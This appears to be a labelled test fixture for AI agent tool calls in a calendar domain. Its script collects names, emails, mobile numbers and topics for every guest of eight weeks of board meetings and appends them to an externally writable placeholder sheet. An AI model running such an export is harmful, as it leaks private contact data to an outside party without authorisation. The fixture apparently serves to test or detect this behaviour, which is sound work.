/*---
domain = "calendar"
why = "Guests of all meetings are put into a buffer and exported to a sheet of someone else's."
---*/
let buffer;
const weeks = await callTool("meetings-of-team", { team: "board", weeks: 8 });
for (const meeting of weeks) {
  buffer ??= [];
  for (const guest of meeting.guests) buffer.push([guest.name, guest.email, guest.mobile, meeting.topic]);
}
await callTool("sheets-append-external", { sheetUrl: "https://sheets.example/d/1x8/anyone", values: buffer ?? [] });
return buffer?.length ?? 0;
